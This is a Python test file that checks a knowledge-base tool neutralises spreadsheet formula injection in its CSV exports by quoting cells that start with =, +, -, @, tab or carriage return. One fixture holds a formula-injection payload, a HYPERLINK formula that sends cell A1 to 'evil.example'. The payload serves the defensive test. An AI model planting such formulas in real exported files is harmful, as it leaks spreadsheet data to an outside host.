"""CSV cells a spreadsheet would run as formulas are neutralised: the shared function, and
``kb export --format csv`` run as a user runs it (the web's CSV: tests/web/test_unsafe_links.py)."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from kb.corpus import document_path, excel_csv, spreadsheet_safe, write_document
from kb.corpus.spreadsheet import FORMULA_TRIGGERS
from kb.models import Document, Item, Section, SectionItem
from kb.vocabulary import EXCEL_HEADERS

KB = str(Path(sys.executable).parent / "kb")


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_every_trigger_character_gets_a_leading_quote(trigger: str) -> None:
    assert trigger in FORMULA_TRIGGERS
    assert spreadsheet_safe(f"{trigger}1+1") == f"'{trigger}1+1"
    assert spreadsheet_safe(trigger) == f"'{trigger}"


@pytest.mark.parametrize("value", ["tillit", "", " =1", "a=1", "'=1", "1-2", 12, -3, 0.5, None,
                                   "ÆØÅ", "https://example.org/"])
def test_anything_else_is_unchanged(value: object) -> None:
    assert spreadsheet_safe(value) == value


FORMULA_ITEMS = ['=HYPERLINK("https://evil.example/?d="&A1,"Klikk")', "+47 99 99 99 99",
                 "-2+3 minus", "@SUM(A1:A9)"]


def test_export_csv_neutralises_formulas_in_every_column(corpus_dir: Path) -> None:
    doc = Document(slug="formler", title="=Tittel", doc_type="programme", region="", county="",
                   language="nb", source_url="https://example.org/formler/",
                   sections=[Section("article", "@Overskrift",
                                     [SectionItem(t, style="bullet") for t in FORMULA_ITEMS])])
    document_path(corpus_dir, "formler").write_text(write_document(doc), encoding="utf-8")
    env = {k: v for k, v in os.environ.items() if not k.startswith("KB_")}
    result = subprocess.run([KB, "--corpus", str(corpus_dir), "export", "--format", "csv"],
                            capture_output=True, text=True, env=env, timeout=120, check=False)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["text"] for r in rows] == ["'" + t for t in FORMULA_ITEMS]
    assert {r["title"] for r in rows} == {"'=Tittel"}
    assert {r["heading"] for r in rows} == {"'@Overskrift"}
    for row in rows:
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row.values())
    jsonl = subprocess.run([KB, "--corpus", str(corpus_dir), "export"], capture_output=True,
                           text=True, env=env, timeout=120, check=False)
    assert '"text": "=HYPERLINK(' in jsonl.stdout  # JSON keeps the text as it is


def test_excel_csv_quotes_semicolons_and_round_trips_every_cell() -> None:
    item = Item(id="a--advice-1", anchor="advice-1", doc="a", title="A", doc_type="region",
                region="Ålesundregionen", county="Møre og Romsdal", language="nb",
                kind="advice", heading="Råd; tre", position=1, number=2, section_size=3,
                text='Si «ja»; skriv "nei"\r\n=1+1', themes=("tillit", "prosess"),
                municipalities=("Sula", "Giske"), source_url="https://example.org/a/")
    labels = {"tillit": "Tillit og relasjoner", "prosess": "Prosess"}
    text = "".join(excel_csv([item], labels.__getitem__, lambda it: "/dokument/a#advice-1"))
    assert text.startswith("\ufeff" + ";".join(EXCEL_HEADERS) + "\r\n")
    [row] = list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=";"))
    assert row == {"Nr": "1", "Region": "Ålesundregionen", "Fylke": "Møre og Romsdal",
                   "Type": "Råd", "Nummer i listen": "2", "Antall i listen": "3",
                   "Overskrift": "Råd; tre", "Tekst": 'Si «ja»; skriv "nei"\r\n=1+1',
                   "Tema": "Tillit og relasjoner, Prosess", "Kommuner": "Sula, Giske",
                   "Lenke": "/dokument/a#advice-1", "Originalside": "https://example.org/a/",
                   "Id": "a--advice-1"}
    formula = Item(**{**item.__dict__, "text": "=HYPERLINK(1)", "heading": "-2"})
    [row] = list(csv.DictReader(io.StringIO("".join(excel_csv(
        [formula], labels.__getitem__, lambda it: ""))[1:], newline=""), delimiter=";"))
    assert (row["Tekst"], row["Overskrift"]) == ("'=HYPERLINK(1)", "'-2")
